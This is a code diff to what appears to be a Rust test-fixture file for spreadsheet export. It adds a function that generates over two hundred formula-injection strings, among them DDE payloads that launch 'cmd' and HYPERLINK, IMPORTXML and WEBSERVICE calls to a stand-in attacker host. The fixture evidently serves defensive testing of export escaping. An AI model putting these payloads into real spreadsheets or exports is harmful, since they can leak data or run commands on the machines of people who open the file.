@@ -39,6 +39,35 @@ pub const TRAPS: [&str; 27] = [
     "",
 ];
 
+/// Every beginning that a spreadsheet could run, before every kind of formula: more than two hundred.
+pub fn hostile() -> Vec<String> {
+    const BEGINNINGS: [&str; 15] = [
+        "=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠", "'=", " =", "\"=",
+    ];
+    const FORMULAS: [&str; 14] = [
+        "1+1",
+        "SUM(A1:A9)",
+        "SUM(1;2)",
+        "HYPERLINK(\"http://evil.example\";\"ok\")",
+        "cmd|' /C calc'!A0",
+        "DDE(\"cmd\";\"/C calc\";\"x\")",
+        "IMPORTXML(\"http://evil.example\",\"//a\")",
+        "WEBSERVICE(\"http://evil.example\")",
+        "ВПР(A1;B:C;2)",
+        "СЕГОДНЯ()",
+        "A1",
+        "{1;2}",
+        "\"a;b\";2",
+        "1\r\n=2",
+    ];
+    let of = |start: &'static str| {
+        FORMULAS
+            .iter()
+            .map(move |formula| format!("{start}{formula}"))
+    };
+    BEGINNINGS.into_iter().flat_map(of).collect()
+}
+
 /// `count` rows, each with another trap; deterministic.
 pub fn rows(count: usize) -> impl Iterator<Item = AggregateRow> {
     (0..count).map(|n| {
